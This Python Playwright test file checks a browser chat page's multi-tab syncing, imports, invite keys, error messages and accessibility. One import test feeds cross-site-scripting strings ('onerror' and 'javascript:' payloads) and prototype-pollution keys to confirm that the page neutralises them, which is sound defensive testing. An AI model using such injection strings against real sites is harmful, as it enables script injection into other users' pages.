    drafts = "JSON.stringify(Object.values(localStorage)).includes('Between us')"
    tab.tab.fill("#input", "Between us")
    tab.eventually(drafts)
    tab.tab.check("#temporary")
    tab.tab.press("#input", "Enter")
    tab.prompt(page_provider).done("Yes")
    tab.answers("Yes")
    tab.idle()
    tab.tab.click("#new")
    tab.tab.wait_for_selector(".hello")
    assert tab.tab.input_value("#input") == "" and not tab.tab.evaluate(drafts)


@in_each_browser
def test_page_two_tabs_show_the_same_conversation(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "One", "Un")
    other = page_tab(tab.url, tab.tab.context).open(tab.tab.url[len(tab.url):])
    other.shows("Un")
    tab.say("Two")
    job = tab.prompt(page_provider)
    job.push("De")
    other.shows("De")
    said = "document.querySelector('.message.last').innerText.includes('Answered in another tab')"
    until(lambda: tab.tab.evaluate(said) != other.tab.evaluate(said))    # whichever was first
    job.push("ux et ")
    tab.tab.close()                                      # the other takes it over
    job.done("demi")
    other.shows("Deux et demi")
    other.idle()
    other.say("Three")
    assert [m["content"] for m in other.prompt(page_provider).request["messages"]] == [
        "One", "Un", "Two", "Deux et demi", "Three"]


def test_page_stops_an_answer_from_another_tab(page_provider, page_tab):
    tab = page_tab().open()
    job = page_begin(tab, page_provider)
    other = page_tab(tab.url, tab.tab.context).open(tab.tab.url[len(tab.url):])
    other.shows("1, 2")
    other.tab.click("#stop")
    assert job.cancelled.wait(PAGE_WAIT / 1000)
    other.shows("Stopped")
    tab.shows("Stopped")


@in_each_browser
def test_page_stops_the_answer_of_a_conversation_that_another_tab_deletes(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "Old", "Older")
    job = page_begin(tab, page_provider)
    other = page_tab(tab.url, tab.tab.context).open(tab.tab.url[len(tab.url):])
    other.shows("1, 2")
    other.tab.hover(".list li")
    other.tab.click("[aria-label='Delete Old']")
    assert job.cancelled.wait(PAGE_WAIT / 1000)
    for each in (tab, other):
        each.tab.wait_for_selector(".hello")
    other.tab.reload()
    other.tab.wait_for_selector(".hello")
    assert not other.tab.query_selector(".list .pick")


def test_page_shares_the_work_between_tabs_without_tls(page_provider, page_tab):
    """There are no Web Locks then."""
    tab = page_tab()
    tab.tab.context.add_init_script("delete Navigator.prototype.locks")
    tab.open()
    job = page_begin(tab, page_provider)
    tab.say("And then?")
    other = page_tab(tab.url, tab.tab.context)
    other.tab.add_init_script("""window.asked = 0;
        const post = BroadcastChannel.prototype.postMessage;
        BroadcastChannel.prototype.postMessage = function (news) {
            asked += "claim" in news;
            return post.call(this, news); };""")
    other.open(tab.tab.url[len(tab.url):])
    other.eventually("asked > 1")                        # the first tab has said that it has it
    other.shows("Answered in another tab")
    job.done(", 3")
    second = tab.prompt(page_provider)
    assert page_contents(second) == ["Count", "1, 2, 3", "And then?"]
    second.push("4")
    other.shows("4")
    assert page_provider.arrived.empty()
    tab.tab.close()                                      # the other takes it over
    second.done(", 5")
    other.answers("4, 5")
    other.idle()
    assert page_provider.arrived.empty()


@in_each_browser
def test_page_draws_only_what_another_tab_has_changed(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "One", "<think>Hm</think>Un", "Un")
    page_talk(tab, page_provider, "Two", {"finish_reason": "length"}, "The answer is empty")
    other = page_tab(tab.url, tab.tab.context).open(tab.tab.url[len(tab.url):])
    other.shows("The answer is empty")
    other.tab.click(".think summary")
    thoughts = "document.querySelector('.think').open"
    other.eventually(thoughts)
    tab.tab.click(".message.last [aria-label='Answer again']")
    tab.prompt(page_provider).done("Deux")
    other.answers("Deux")
    other.idle()
    other.eventually("!document.querySelector('.which')")        # nothing is not a version
    tab.idle()
    page_more(tab, ".message.last", "Delete from here on")
    other.eventually("document.querySelectorAll('.message').length === 3")
    assert other.tab.evaluate(thoughts)


def test_page_waits_on_for_a_provider_though_another_tab_is_opened_late(page_relay, page_tab):
    tab = page_tab()
    tab.expects_trouble = True
    tab.open()
    tab.say("Hi")
    tab.tab.click("text=Send when it is back")
    tab.shows("Waiting until it is back online")
    other = page_tab(tab.url, tab.tab.context)
    other.tab.add_init_script("const now = Date.now; Date.now = () => now() + 3600000;")
    other.open(tab.tab.url[len(tab.url):])
    other.shows("Answered in another tab")
    provider = PageProvider(page_relay)
    tab.prompt(provider).done("Hello")
    for each in (tab, other):
        each.answers("Hello")
    provider.leave()


def test_page_imports_the_same_file_once(page_provider, page_tab, tmp_path):
    tab = page_tab().open()
    page_talk(tab, page_provider, "Once", "Only")
    for kind in ("#export-json", "#export-md"):
        tab.tab.click("#open-export")
        with tab.tab.expect_download() as download:
            tab.tab.click(kind)
        path = tmp_path / download.value.suggested_filename
        download.value.save_as(path)
        tab.tab.keyboard.press("Escape")
        other = page_tab().open()                        # another browser
        for words in ("1 conversation imported.", "1 already here"):
            other.tab.click("#open-export")
            other.tab.set_input_files("#import", path)
            other.shows(words, ".toast")
            other.tab.keyboard.press("Escape")
        assert len(other.tab.query_selector_all(".list .pick")) == 1
        other.tab.click(".list .pick")
        other.shows("Only")
        assert len(other.tab.query_selector_all(".message")) == 2


# No text, and nothing that JavaScript could make one of.
PAGE_ODD = {"toString": 1, "valueOf": 2}


def test_page_takes_nothing_bad_from_an_imported_file(page_provider, page_tab):
    conv = {"id": "a" * 16, "service": "Demo", "title": "<b>", "updated": "soon",
            "leaf": "2", "settings": {"temperature": "<i>", "system": 5}, "messages": [
                {"id": "1", "role": "user", "content": "<img src=x onerror=pwned=1>", "files": [
                    {"kind": "image", "name": "x", "data": "javascript:alert(1)"}, None]},
                {"id": "2", "parent": "1", "role": "assistant", "content": PAGE_HOSTILE,
                 "reasoning": 7, "stats": {"tokens": {}}, "state": "live", "live": 1,
                 "stream": {"key": "theirs"}, "error": {"name": "__proto__"}},
                {"id": "2", "role": "system", "content": "no"}, 5, None]}
    loop = dict(conv, id="b" * 16, title="Loop", messages=[
        {"id": "1", "parent": "1", "role": "user", "content": "round"}], leaf="1")
    odd = dict.fromkeys(("id", "leaf", "title", "created", "updated", "settings"), PAGE_ODD)
    message = dict.fromkeys(("id", "parent", "reasoning", "state", "created", "finish"), PAGE_ODD)
    file = {"kind": "text", "name": PAGE_ODD, "size": PAGE_ODD, "data": "odd file"}
    odd.update(service="Demo", messages=[
        dict(message, role=PAGE_ODD), dict(message, role="constructor", content="no"),
        dict(message, role="user", content="odd", files=[file, dict(file, kind=PAGE_ODD)],
             tools=[{"name": PAGE_ODD}], stats={"tokens": PAGE_ODD, "rate": 1e300})])
    tab = page_tab().open()
    tab.tab.click("#open-export")
    tab.tab.set_input_files("#import", page_file("x.json", "application/json", json.dumps(
        {"conversations": [conv, odd, loop, 5, {"service": 1}]}).encode()))
    tab.shows("3 conversations imported", ".toast")
    tab.tab.keyboard.press("Escape")
    tab.tab.click(".list .pick >> text=Imported")
    tab.shows("odd", ".message.user .said")
    tab.tab.click(".list .pick >> text=Loop")
    tab.shows("round", ".message.user")
    tab.tab.click(".list .pick >> text=<b>")
    tab.shows("<iframe src=javascript:pwned=1>")
    page_is_unharmed(tab)
    assert not [r for r in tab.requests if r.method == "POST"]   # nothing was "live"


def test_page_stays_alive_while_it_imports_thousands_of_conversations(page_browser, page_tab):
    said = {"conversations": [{"service": "Demo", "title": str(n), "messages": [
        {"id": "1", "role": "user", "content": "hello %d" % n}]} for n in range(1200)]}
    tab = page_tab().open()
    tab.tab.click("#open-export")
    page_browser.start_tracing(page=tab.tab, categories=["toplevel"])
    tab.tab.set_input_files("#import", page_file(
        "x.json", "application/json", json.dumps(said).encode()))
    tab.shows("1,200 conversations imported", ".toast")
    assert page_longest_task(page_browser.stop_tracing()) < 200


def test_page_leaves_out_imported_conversations_that_it_cannot_show(page_tab):
    """No address can hold half a character, and some browsers make no JSON of deep lists."""
    sound = {"service": "Demo", "title": "Sound", "leaf": "1",
             "messages": [{"id": "1", "role": "user", "content": "hello"}]}
    bad = [dict(sound, service=name) for name in ("\ud800", "", "..", "a/b", "x" * 65)]
    deep = json.dumps(dict(sound, title="Deep", leaf="here")).replace(
        '"here"', "[" * 50000 + "]" * 50000)
    text = json.dumps({"conversations": [*bad, "deep", sound]}).replace('"deep"', deep)
    tab = page_tab().open()
    tab.tab.click("#open-export")
    tab.tab.set_input_files("#import", page_file("x.json", "application/json", text.encode()))
    tab.shows("imported", ".toast")
    tab.tab.evaluate(PAGE_STORE, [["conversations", {
        "id": "b", "service": "a/b", "title": "from an older page", "leaf": "1"}]])
    tab.open()
    titles = tab.tab.eval_on_selector_all(".list .pick", "(all) => all.map((el) => el.title)")
    assert "Sound" in titles and set(titles) <= {"Sound", "Deep"}


# 8. Truth


def test_page_shows_tool_calls_and_says_why_an_answer_is_empty(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Weather?")
    page_provider.next().done(
        {"tool_calls": [{"index": 0, "id": "c", "function": {
            "name": "get_weather", "arguments": '{"city": '}}]},
        {"tool_calls": [{"index": 0, "function": {"arguments": '"Rome"}'}}]},
        {"finish_reason": "tool_calls"})
    tab.shows("asked for the tool get_weather")
    tab.shows("No text")
    assert not tab.tab.is_visible(".tools pre")
    tab.tab.click(".tools summary")
    tab.shows('"city": "Rome"', ".tools pre")
    for item, words in (({"finish_reason": "stop"}, "The answer is empty. The model ended it."),
                        ({"finish_reason": "content_filter"}, "Withheld by a filter"),
                        ({"finish_reason": "constructor"},
                         "The answer is empty. Ended: constructor."),
                        ({"reasoning": "Hm."}, "The model thought, but gave no answer")):
        tab.say("Again")
        tab.prompt(page_provider).done(item)
        tab.shows(words)


def test_page_takes_tool_calls_of_any_size(page_browser, page_provider, page_tab):
    tab = page_tab().open()
    for text in ("[" * 5000 + "]" * 5000, json.dumps(["word"] * 60000), "{" * 500000):
        page_browser.start_tracing(page=tab.tab, categories=["toplevel"])
        tab.say("Call")
        job = tab.prompt(page_provider)
        for n in range(0, len(text), 5000):
            job.push({"tool_calls": [{"index": 0, "function": {
                "name": "<b> " * 50, "arguments": text[n:n + 5000]}}]})
        job.done()
        tab.shows("asked for the tool <b>")
        tab.idle()
        tab.tab.click(".last .tools summary")
        tab.eventually("(n) => document.querySelector('.last .tools pre').textContent"
                       ".replace(/\\s/g, '').length === n", len(text.replace(" ", "")))
        assert page_longest_task(page_browser.stop_tracing()) < 400


def test_page_counts_thoughts_in_its_speed(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Think")
    job = page_provider.next()
    job.push(*[{"reasoning": "hm "}] * 39)
    tab.shows("30 tokens")
    tab.tab.wait_for_timeout(500)                        # time for a rate to be measured
    job.done("42")
    tab.idle()
    tab.shows("40 tokens · ", ".last .note")
    tab.shows("tokens/s", ".last .note")


@in_each_browser
def test_page_asks_before_an_invite_link_replaces_a_key(page_relay, page_tab):
    tab = page_tab().open("/Demo#k=mine")
    stored = "localStorage.getItem('neuroengine.key.demo')"
    gone = "!document.querySelector('.banner').innerText.includes('another key')"
    tab.eventually(stored + " === '\"mine\"'")
    tab.tab.evaluate("location.hash = '#k=theirs'")
    tab.shows("brings another key for Demo", ".banner")
    assert tab.tab.evaluate(stored) == '"mine"'          # nothing was pressed yet
    tab.tab.click("text=Keep mine")
    tab.eventually(gone)
    assert tab.tab.evaluate(stored) == '"mine"'
    tab.tab.evaluate("location.hash = '#k=theirs'")
    tab.tab.click("text=Use the other")
    tab.eventually(stored + " === '\"theirs\"'")
    tab.eventually(gone)
    tab.tab.evaluate("localStorage.clear()")             # it is the next test's, too


def test_page_asks_about_an_invite_link_in_other_letters(page_relay, page_tab):
    tab = page_tab().open("/Demo#k=mine")
    tab.shows("kept in this browser", ".toast")
    tab.open("/")
    tab.open("/demo#k=theirs")
    tab.shows("brings another key for Demo", ".banner")


@in_each_browser
def test_page_replaces_a_key_that_no_longer_works_without_asking(page_relay, page_tab):
    page_relay.change("Demo", private=True)
    tab = page_tab().open()
    tab.expects_trouble = True
    right, stored = page_relay.keys["Demo"], "localStorage.getItem('neuroengine.key.demo')"
    tab.tab.evaluate("localStorage.setItem('neuroengine.key.demo', '\"revoked\"')")
    tab.tab.evaluate("location.hash = '#k=wrong'")
    tab.shows("Demo refuses the key of that link", ".toast")
    assert tab.tab.evaluate(stored) == '"revoked"'
    tab.tab.evaluate("(key) => { location.hash = '#k=' + key }", right)
    tab.eventually("(key) => %s === JSON.stringify(key)" % stored, right)
    tab.tab.evaluate("location.hash = '#k=wrong'")       # and a good one is not given up
    tab.shows("Demo refuses the key of that link", ".toast")
    tab.tab.evaluate("localStorage.clear()")


@pytest.mark.parametrize("path", ["/Demo", "/demo"])
def test_page_says_at_once_that_a_key_is_wrong(page_relay, page_provider, page_tab, path):
    page_relay.change("Demo", private=True)
    tab = page_tab()
    tab.expects_trouble = True
    tab.open(path + "#k=wrong")
    tab.shows("Your key for Demo is wrong", ".banner")
    tab.tab.click(".banner >> text=Enter a key")
    tab.tab.fill("#key-key", "wrong too")
    tab.tab.keyboard.press("Enter")
    tab.shows("Your key for Demo is wrong", "#key-trouble")
    tab.tab.fill("#key-key", page_relay.keys["Demo"])
    tab.tab.keyboard.press("Enter")
    tab.eventually("!document.querySelector('.banner')")
    assert tab.tab.get_attribute("#status [role=img]", "title") == "Private: you have a key"
    assert page_provider.arrived.empty()                 # no prompt was needed to find out


def test_page_forgets_that_a_key_was_wrong_with_the_key(page_relay, page_tab):
    page_relay.change("Demo", private=True)
    tab = page_tab()
    tab.expects_trouble = True
    tab.open("/Demo#k=wrong")
    tab.shows("Your key for Demo is wrong", ".banner")
    other = page_tab(tab.url, tab.tab.context)
    other.expects_trouble = True
    other.open("/Demo#k=" + page_relay.keys["Demo"])
    other.shows("kept in this browser", ".toast")
    tab.news()
    tab.shows("Offline right now", ".banner")            # that key is right
    tab.tab.click("#open-settings")
    tab.tab.click("text=Forget it")
    tab.tab.keyboard.press("Escape")
    tab.shows("This service is private", ".banner")


def test_page_asks_the_relay_before_it_takes_the_key_of_an_invite(page_relay, page_tab):
    tab = page_tab().open()
    tab.expects_trouble = True
    page_relay.change("Demo", private=True)              # the page has not heard of it yet
    tab.tab.evaluate("location.hash = '#k=wrong'")
    tab.shows("Your key for Demo is wrong", ".banner")


def test_page_has_its_own_words_for_every_error(page_tab):
    tab, name = page_tab(), [""]
    tab.expects_trouble = True
    tab.tab.route("**/Demo", lambda route: route.fallback() if route.request.method == "GET"
                  else route.fulfill(status=400, json={
                      "error": name[0], "errorcode": 1,
                      "reply": 'Send "wait": true with Authorization: Bearer KEY.'}))
    tab.open()
    told = set()
    for name[0] in sorted(set(neuroengine_server.ERRORS) - {
            "shutting_down", "still_waiting", "key_reused", "cancelled", "session_unknown"}):
        tab.tab.click("#new")
        tab.say("Hello")
        tab.tab.wait_for_selector(".last .trouble")
        words = tab.tab.inner_text(".last .trouble p")
        assert ("Bearer" in words) == (name[0] in (      # those tell what the model said
            "provider_error", "invalid_request", "unsupported")), words
        told.add(words)
        if name[0] in ("bad_http", "head_too_large", "invalid_json", "length_required",
                       "method_not_allowed", "not_found", "unsupported_encoding"):
            assert "does not know" in words              # what no page of ours brings about
        else:
            assert "does not know" not in words, name
    assert len(told) > 20


def test_page_folds_errors_that_were_left_behind(page_provider, page_tab):
    tab = page_tab().open()
    tab.expects_trouble = True
    tab.say("Break")
    page_provider.next().fail("out of memory")
    tab.shows("out of memory", ".trouble")
    page_talk(tab, page_provider, "Again", "Better")
    assert tab.tab.eval_on_selector(".trouble", "el => el.localName + el.open") == "detailsfalse"


def test_page_directory_sorts_and_hides_what_says_nothing(page_relay, page_tab):
    tab = page_tab()
    model = {"connected": True, "private": False, "paused": False, "numreq": 0, "comment": "",
             "operator": "", "queuelen": 0, "workers": 1, "running": 0}
    tab.tab.route("**/api/models", lambda route: route.fulfill(json=[
        dict(model, name="Asleep", connected=False, tokens_per_s=99),
        dict(model, name="Bare"), dict(model, name="Fast", tokens_per_s=55.2, vision=True),
        dict(model, name="Slow", tokens_per_s=3.25, tools=True, context_length=32768),
        dict(model, name="Demo", private=True, queuelen=2, eta_s=20)]))
    tab.open("/Demo")
    tab.tab.evaluate("""() => new Promise((done) => {
        indexedDB.open("neuroengine").onsuccess = ({target: {result: db}}) => {
            const write = db.transaction("conversations", "readwrite");
            write.objectStore("conversations").put({id: "a".repeat(16), service: "Demo",
                title: "x", updated: 1, created: 1, leaf: null});
            write.oncomplete = () => { db.close(); done(); };
        }; })""")
    tab.open("/")
    tab.tab.wait_for_selector(".card")
    assert tab.tab.eval_on_selector_all(".card h2", "all => all.map((el) => el.innerText)") == [
        "Demo", "Fast", "Slow", "Bare", "Asleep"]
    text = tab.tab.inner_text("#cards")
    for words in ("2 waiting · about 20", "Used by you", "55 tokens/s", "sees images",
                  "uses tools", "3.3 tokens/s", "32k context"):
        assert words in text
    assert not re.search(r"\b0\b", text)
    assert tab.tab.eval_on_selector_all(".card [role=img]", "all => all.map((el) => el.title)") \
        == ["Private"]
    assert tab.tab.eval_on_selector("h1", "el => el.getBoundingClientRect().height") < 40


# 9. Scrolling, strength, and the rest of what is for everyone


def page_reader_scrolls(tab, how):
    """What a reader may do to get away from the end, however little."""
    x, y = tab.tab.evaluate("""() => { const b = document.querySelector("#log")
        .getBoundingClientRect(); return [b.x + b.width / 2, b.y + b.height / 2]; }""")
    if how in ("PageUp", "ArrowUp", "Home"):
        tab.tab.focus("#log")
        tab.tab.keyboard.press(how)
    elif how == "wheel":
        tab.tab.mouse.move(x, y)
        tab.tab.mouse.wheel(0, -20)
    elif how == "find":
        tab.tab.evaluate("document.querySelector('.last .md').children[3].scrollIntoView()")
    else:
        finger = tab.tab.context.new_cdp_session(tab.tab)
        for n in range(8):
            finger.send("Input.dispatchTouchEvent", {
                "type": "touchMove" if n else "touchStart",
                "touchPoints": [{"x": x, "y": y + 5 * n}]})
        finger.send("Input.dispatchTouchEvent", {"type": "touchEnd", "touchPoints": []})


@pytest.mark.parametrize("page_browser, how", [
    *[("chromium", how) for how in ("PageUp", "ArrowUp", "Home", "wheel", "touch", "find")],
    *[(name, how) for name in ("Firefox", "WebKit") for how in ("PageUp", "wheel", "find")]],
    indirect=["page_browser"])
def test_page_scrolling_obeys_the_reader_while_text_streams(page_provider, page_tab, how):
    tab = page_tab(has_touch=how == "touch").open()
    tab.tab.fill("#input", "Many lines")
    tab.tab.click("#send")
    job = page_provider.next()
    job.push(*["line %d\n\n" % n for n in range(60)])
    tab.shows("line 59")
    streams = threading.Event()

    def stream():
        for n in itertools.count():
            if streams.wait(0.005):
                break
            job.push("more %d\n\n" % n)
        job.done()
    thread = threading.Thread(target=stream)
    thread.start()
    try:
        tab.shows("more 20")
        page_scrolls_away(tab, lambda: page_reader_scrolls(tab, how))
        place = "document.querySelector('#log').scrollTop"
        top = tab.at_rest(place)                         # a smooth scroll has come to its end
        length = "document.querySelectorAll('.last .md p').length"
        tab.eventually("(n) => %s > n + 20" % length, tab.tab.evaluate(length))
        assert abs(tab.tab.evaluate(place) - top) < 2
        tab.tab.click("#latest")
        tab.eventually("(() => { const l = document.querySelector('#log'); "
                       "return l.scrollHeight - l.scrollTop - l.clientHeight < 40; })()")
    finally:
        streams.set()
        thread.join()
    tab.idle()


PAGE_SPY = """window.dbs = []; const open = IDBFactory.prototype.open;
IDBFactory.prototype.open = function (...all) {
    const request = open.apply(this, all);
    request.addEventListener("success", () => dbs.push(request.result));
    return request; };"""


@pytest.mark.parametrize("how", ["closed by the browser", "upgraded by a newer page"])
def test_page_opens_its_database_again(page_provider, page_tab, how):
    tab = page_tab()
    tab.tab.context.add_init_script(PAGE_SPY)
    tab.open()
    page_talk(tab, page_provider, "One", "Un")
    if how.startswith("closed"):
        tab.tab.evaluate("dbs.forEach((db) => db.close())")
    else:
        tab.tab.evaluate("""() => new Promise((done) => {
            indexedDB.open("neuroengine", 9).onsuccess = ({target}) => {
                target.result.close(); done(); }; })""")
    page_talk(tab, page_provider, "Two", "Deux")
    assert not tab.tab.query_selector(".toast")          # nothing was "full"
    tab.tab.reload()
    tab.shows("Deux")
    assert len(tab.tab.query_selector_all(".message")) == 4


PAGE_STORE = """(values) => new Promise((stored) => {
    indexedDB.open("neuroengine").onsuccess = ({target: {result: db}}) => {
        const all = db.transaction(["conversations", "messages"], "readwrite");
        for (const [kind, value] of values) all.objectStore(kind).put(value);
        all.oncomplete = () => stored(true);
    }; })"""


PAGE_NO_STORAGE = """const refuse = () => { throw new DOMException("no", "SecurityError"); };
for (const name of ["localStorage", "indexedDB"])
    Object.defineProperty(window, name, {get: refuse});
window.BroadcastChannel = function () { refuse(); };
LockManager.prototype.request = async () => refuse();"""


def test_page_works_where_the_browser_forbids_storage(page_relay, page_provider, page_tab):
    page_relay.change("Demo", private=True)
    tab = page_tab()
    tab.tab.context.add_init_script(PAGE_NO_STORAGE)
    tab.complained = lambda: []                          # it cannot keep its own list
    tab.open("/Demo#k=" + page_relay.keys["Demo"])
    tab.shows("stores nothing", ".toast")
    page_talk(tab, page_provider, "Hello", "Hi")
    tab.tab.click("#new")
    page_talk(tab, page_provider, "Again", "Hi again")
    assert len(tab.tab.query_selector_all(".list .pick")) == 2


PAGE_SILENT_STORE = """IDBFactory.prototype.open = () => new EventTarget();
const setTimer = setTimeout;
window.setTimeout = (work, ms) => setTimer(work, ms === 10000 ? 1 : ms);"""
PAGE_FULL_STORE = """IDBObjectStore.prototype.put = () => {
    throw new DOMException("full", "QuotaExceededError"); };"""


@pytest.mark.parametrize("script, words", [
    (PAGE_SILENT_STORE, "stores nothing"), (PAGE_FULL_STORE, "storage is full")],
    ids=["silent", "full"])
def test_page_works_where_the_store_is_silent_or_full(page_provider, page_tab, script, words):
    tab = page_tab()
    tab.tab.context.add_init_script(script)
    tab.open()
    page_talk(tab, page_provider, "Hello", "Hi")
    tab.shows(words, ".toast")
    tab.tab.click("#new")
    tab.tab.click(".list .pick")
    tab.shows("Hi")
    page_talk(tab, page_provider, "Again", "Hi again")
    assert len(tab.tab.query_selector_all(".message")) == 4


def test_page_leaves_out_what_it_cannot_show_of_its_store(page_provider, page_tab):
    tab = page_tab().open()
    tab.tab.evaluate(PAGE_STORE, [
        ["conversations", {"id": "a"}], ["conversations", {"id": "b", "service": 5, "title": {}}],
        ["conversations", {"id": "c", "service": "Demo", "title": "Sound", "leaf": "2"}],
        ["messages", {"id": "1", "conv": "c", "role": "user", "content": 5}],
        ["messages", {"id": "2", "conv": "c", "role": "user", "content": "a sound one"}]])
    tab.open()
    assert tab.tab.eval_on_selector_all(".list .pick", "(all) => all.length") == 1
    tab.tab.click(".list .pick >> text=Sound")
    tab.shows("a sound one")


@in_each_browser
def test_page_shows_a_prompt_of_a_megabyte_from_a_link(page_relay, page_provider, page_tab):
    said = {"title": "Long", "messages": [
        {"role": "user", "content": "x" * 500000 + " y" * 200000 + "\nthe end"}]}
    tab = page_tab()
    tab.tab.goto(page_relay.url + page_packed(json.dumps(said).encode()))
    tab.shows("Someone shared this conversation", "#banner")
    tab.eventually("document.querySelector('.said').textContent.endsWith('y\\nthe end\\n')")
    assert tab.wide() == []


def test_page_reads_out_words_without_markdowns_signs(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Read")
    page_provider.next().done("## Head\n\nSome **bold** [link](https://a.example/).\n\n"
                              "| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```\n")
    tab.eventually("document.querySelector('#live').textContent.startsWith('Answer')")
    assert tab.live() == "Answer: Head\nSome bold link.\na, b\n1, 2\nx = 1"


def test_page_reads_out_why_an_answer_has_no_words(page_provider, page_tab):
    tab = page_tab().open()
    for items, words in ((({"finish_reason": "length"},), "The answer is empty. Stopped at"),
                         (({"tool_calls": [{"index": 0, "function": {"name": "add"}}]},),
                          "No text: the model asked for a tool")):
        tab.say("Hello")
        tab.prompt(page_provider).done(*items)
        tab.eventually("(words) => document.querySelector('#live').textContent"
                       ".startsWith(words)", words)
        tab.idle()
    tab.say("Hello")
    page_provider.next()
    tab.tab.click("#stop")
    tab.shows("Stopped.", ".message.last p")             # also when it is not the last


def test_page_reads_out_what_the_banner_says(page_relay, page_provider, page_tab):
    tab = page_tab().open()
    tab.expects_trouble = True
    page_relay.change("Demo", private=True)
    tab.news()
    tab.eventually("document.querySelector('#live').textContent.startsWith('This service')")


def test_page_adds_files_and_goes_on_in_the_composer(page_provider, page_tab):
    tab = page_tab().open()
    tab.tab.focus("#attach")
    tab.tab.set_input_files("#choose", {"name": "a.txt", "mimeType": "text/plain",
                                        "buffer": b"words"})
    tab.tab.wait_for_selector("#input:focus")
    assert tab.live().startswith("Added: a.txt.")


def test_page_lists_its_shortcuts_and_obeys_them(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "About cats", "They purr")
    tab.tab.focus("#log")
    tab.tab.keyboard.press("?")
    tab.shows("Keyboard shortcuts", "#dialog h2")
    tab.tab.keyboard.press("Escape")
    tab.tab.focus("#log")
    tab.tab.keyboard.press("/")
    tab.tab.wait_for_selector("#input:focus")
    tab.tab.keyboard.type("/?")                          # here they are letters
    assert tab.tab.input_value("#input") == "/?"
    tab.tab.fill("#input", "")
    tab.tab.keyboard.press("ArrowUp")
    assert tab.tab.input_value(".editing textarea") == "About cats"
    tab.tab.keyboard.press("Escape")
    tab.tab.keyboard.press("Control+k")
    tab.tab.wait_for_selector("#search:focus")
    tab.tab.keyboard.press("Control+Shift+O")
    tab.tab.wait_for_selector(".hello")
    tab.tab.keyboard.press("Control+,")
    tab.tab.wait_for_selector("#conversation-system:focus")


def test_page_theme_can_be_chosen(page_provider, page_tab):
    tab = page_tab(color_scheme="light").open("/")
    dark = "getComputedStyle(document.body).backgroundColor === 'rgb(23, 24, 22)'"
    assert not tab.tab.evaluate(dark)
    tab.tab.click("#open-preferences")
    tab.tab.select_option("#preferences-theme", "dark")
    assert tab.tab.evaluate(dark)
    tab.open("/Demo")
    assert tab.tab.evaluate(dark)


def test_page_prints_the_whole_conversation(page_provider, page_tab):
    tab = page_tab(color_scheme="dark").open()
    page_talk(tab, page_provider, "Long", "\n\n".join("line %d" % n for n in range(300))
              + "\n\nhttps://a.example/ and [b](https://b.example/)", "https://a.example/ and b")
    tab.tab.evaluate("document.documentElement.dataset.theme = 'dark'")      # if chosen, too
    tab.tab.emulate_media(media="print")
    assert tab.tab.evaluate("[...document.querySelectorAll('.md a')].map((a) => "
                            "getComputedStyle(a, '::after').content !== 'none')") == [
        False, True]                                     # an address stands there once
    height = tab.tab.evaluate("document.documentElement.scrollHeight")
    assert height > 300 * 20
    assert not tab.tab.is_visible("#side") and not tab.tab.is_visible("#composer")
    assert tab.tab.evaluate("getComputedStyle(document.body).backgroundColor") \
        == "rgb(252, 251, 249)"
    assert tab.tab.pdf().count(b"/Type /Page\n") + tab.tab.pdf().count(b"/Type /Page ") > 5


def test_page_touch_targets_are_44_pixels(page_relay, page_provider, page_tab):
    tab = page_tab(has_touch=True, is_mobile=True,
                   viewport={"width": 390, "height": 800}).open("/")
    small = """[...document.querySelectorAll("button, summary, select, input, a")]
        .filter((el) => el.checkVisibility({visibilityProperty: true}) && !el.closest(".md")
            && el.type !== "checkbox")
        .filter((el) => { const box = el.getBoundingClientRect(), line = el.closest(".card");
            return box.width && !line && (box.height < 43.5 || box.width < 43.5); })
        .map((el) => el.outerHTML.slice(0, 100))"""
    assert tab.tab.evaluate(small) == []
    tab.open("/Demo")
    tab.tab.fill("#input", "Hello")
    page_give(tab, "drop", ("b.txt", "", b"Bee"))
    tab.tab.wait_for_selector("#files .file.text")
    assert tab.tab.evaluate(small) == []
    tab.tab.click("#send")
    page_provider.next().done("```\ncode\n```")
    tab.idle()
    tab.shows("code", ".last pre")
    assert tab.tab.evaluate(small) == []
    for opener in ("#open-settings", "#open-code", "#open-side"):
        tab.tab.click(opener)
        tab.at_rest("document.querySelector('#side').getBoundingClientRect().x")  # slides in
        assert tab.tab.evaluate(small) == [], opener
        tab.tab.keyboard.press("Escape")


def test_page_takes_every_word_from_one_table(page_relay, page_provider, page_tab):
    with open(os.path.join(HERE, "chat.html"), encoding="utf-8") as file:
        page = file.read()
    marked = page.replace("// TEXT ends", """
        const mark = (word) => (typeof word === "string" ? "«" + word + "»"
            : typeof word === "function" ? (...all) => "«" + word(...all) + "»"
            : Array.isArray(word) ? word.map((one) => one && mark(one))
            : Object.fromEntries(Object.entries(word).map(([k, v]) => [k, mark(v)])));
        for (const [name, word] of Object.entries(TEXT)) if (name !== "language") {
            TEXT[name] = name === "errors" ? word : mark(word);
        }""")
    assert marked != page
    tab = page_tab()
    for path in ("/", "/Demo"):
        tab.tab.route(page_relay.url + path, lambda route: route.fulfill(
            body=marked, content_type="text/html") if route.request.method == "GET"
            else route.fallback())
    unmarked = """() => {
        const own = /^(neuroengine|Demo|Ada|A small model.*|Hello|Hi|http.*|My-Llama|«.*»)$/s;
        const out = [], walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
        for (let node; (node = walk.nextNode());) {
            if (!node.parentElement.closest("script, noscript, pre, .md, code, kbd, .code-top")
                && /[A-Za-z]{2}/.test(node.data.replace(/«[^»]*»|«.*»/gs, ""))
                && !own.test(node.data.trim())) out.push(node.data);
        }
        for (const el of document.querySelectorAll("[aria-label], [title], [placeholder]"))
            for (const name of ["aria-label", "title", "placeholder"]) {
                const words = el.getAttribute(name) || "";
                if (/[A-Za-z]{2}/.test(words) && !words.includes("«") && !own.test(words))
                    out.push(name + "=" + words);
            }
        return out; }"""
    tab.open("/")
    tab.tab.wait_for_selector(".card")
    assert tab.tab.evaluate(unmarked) == []
    for opener in ("#open-share", "#open-manage", "#open-preferences"):
        tab.tab.click(opener)
        assert tab.tab.evaluate(unmarked) == [], opener
        tab.tab.keyboard.press("Escape")
    tab.open("/Demo")
    page_talk(tab, page_provider, "Hello", "Hi")
